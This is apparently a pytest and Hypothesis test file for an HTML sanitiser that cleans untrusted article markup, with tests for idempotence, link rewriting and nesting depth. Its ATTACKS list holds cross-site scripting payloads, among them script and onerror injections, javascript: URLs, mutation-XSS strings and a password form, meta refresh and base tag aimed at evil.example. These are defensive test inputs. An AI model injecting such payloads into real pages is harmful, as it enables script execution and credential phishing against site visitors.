"""What of a stranger's HTML is published."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from services.ingest.nesting import DEEPEST, is_too_deep
from services.ingest.plain_text import clean_lines
from services.ingest.sanitise import clean_html

BASE = "https://thinktank.example/commentary/ice"

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)"></math>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)" class="x" id="y">x</p>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=x>",
    "<object data=x></object><embed src=x><template><script>1</script></template>",
]
PIECES = st.sampled_from(
    [
        *ATTACKS,
        *(
            "<p>",
            "</p>",
            "<b>",
            "<i>",
            "</b>",
            "<pre>\n",
            "\n",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<a href='/x'>",
        ),
        *(
            "<ul>",
            "<li>",
            "<select>",
            "<h2>",
            "<ruby>",
            "<rt>",
            "<!--",
            "-->",
            "&#1;",
            "&#13;",
            "&lt;b&gt;",
            "]]>",
        ),
        *(
            "<svg>",
            "<math>",
            "<title>",
            "<plaintext>",
            "</br>",
            "words",
            " ",
            "\ufffe",
            "<figure>",
            "<img src='a b'>",
        ),
    ]
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_it_can_act(attack: str) -> None:
    cleaned = clean_html(f"<p>Before.</p>{attack}<p>After.</p>", BASE)

    assert cleaned is not None
    tree = html.fragment_fromstring(cleaned, create_parent="div")
    allowed = {"href", "src", "alt", "title", "rel"}
    for element in tree.iter():
        assert element.tag in {"div", "p", "a", "img", "table", "tbody"}
        assert set(element.attrib) <= allowed
        for name in ("href", "src"):
            assert element.get(name, BASE).startswith(("https://", "http://", "mailto:"))


@given(st.lists(PIECES, max_size=12), st.sampled_from([BASE, None]))
def test_cleaning_twice_is_cleaning_once(pieces: list[str], base_url: str | None) -> None:
    written = clean_lines("".join(pieces))
    cleaned = clean_html(written, base_url)

    assert cleaned == clean_html(written, base_url)
    if cleaned is not None:
        assert clean_html(cleaned, base_url) == cleaned
        assert not any(character in cleaned for character in "\x00\x01\r\ufffe")


def test_what_articles_are_written_with_stays() -> None:
    written = (
        "<h2>Ice</h2><p>A <em>late</em> road<sup>1</sup><br>and <code>x &lt; y</code></p>"
        '<ol start="3"><li>one</li></ol><blockquote><p>q</p></blockquote>'
        "<table><caption>c</caption><thead><tr><th>h</th></tr></thead>"
        '<tbody><tr><td colspan="2">d</td></tr></tbody></table>'
        '<figure><img src="https://a.example/i.png" alt="A road" width="3">'
        "<figcaption>f</figcaption></figure>"
    )
    assert clean_html(written, BASE) == written


@pytest.mark.parametrize(
    ("base_url", "link"),
    [
        (BASE, 'href="https://thinktank.example/commentary/map?x=1#y"'),
        ("https://outlet.example", 'href="https://outlet.example/map?x=1#y"'),
        (None, ""),
    ],
)
def test_links_become_absolute_or_go(base_url: str | None, link: str) -> None:
    assert clean_html('<a href="map?x=1#y">m</a>', base_url) == (
        f'<a {link}{" " if link else ""}rel="noopener noreferrer">m</a>'
    )


@pytest.mark.parametrize(
    "nothing", ["", "  ", "<p></p>", "<p>&nbsp;</p><br>", "<!-- x -->", "<script>x</script>", "<img alt=x>"]
)
def test_what_shows_nothing_is_no_content(nothing: str) -> None:
    assert clean_html(nothing, BASE) is None


def test_a_picture_alone_is_content() -> None:
    assert clean_html('<img src="/i.png" alt="">', BASE)


@pytest.mark.parametrize(
    ("markup", "deep"),
    [
        ("<div>" * (DEEPEST + 1), True),
        ("<div><b></div>" * (DEEPEST + 1), True),
        ("<div><select></div></select>" * (DEEPEST + 1), True),
        ("<p>" * 5000, False),
        ("<p>text<br><img src=x>" * 5000, False),
        ("<ul><li>a<li>b</ul>" * 5000, False),
        ("<table><tr><td>a<td>b<tr><td>c</table>" * 5000, False),
        ("<b><i>x</i></b>" * 5000, False),
        ("<div>" * 500 + "</div>" * 500, False),
    ],
)
def test_depth_is_told_before_anything_is_parsed(markup: str, deep: bool) -> None:
    assert is_too_deep(markup) is deep
